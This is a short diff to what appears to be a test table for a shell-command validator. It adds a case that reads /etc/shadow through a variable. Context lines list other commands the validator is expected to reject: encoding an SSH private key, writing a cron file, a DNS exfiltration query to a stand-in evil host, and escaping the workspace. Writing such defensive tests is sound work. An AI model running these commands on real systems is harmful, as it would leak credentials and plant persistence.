@@ -136,6 +136,7 @@ SHELL_MORE = {
     "base64_secret": ("base64 ~/.ssh/id_rsa", "privileged_path"),
     "sed_write": ("sed -n 'w /etc/cron.d/evil' src/app.py", "privileged_path"),
     "dns_leak": ("dig +short TXT leak.evil.example", "egress_not_allowed"),
+    "variable_path": ("F=/etc/shadow; cat $F", "privileged_path"),
     "pwd_escape": ("echo x > $PWD/../escape.txt", "path_outside_workspace"),
 }
 
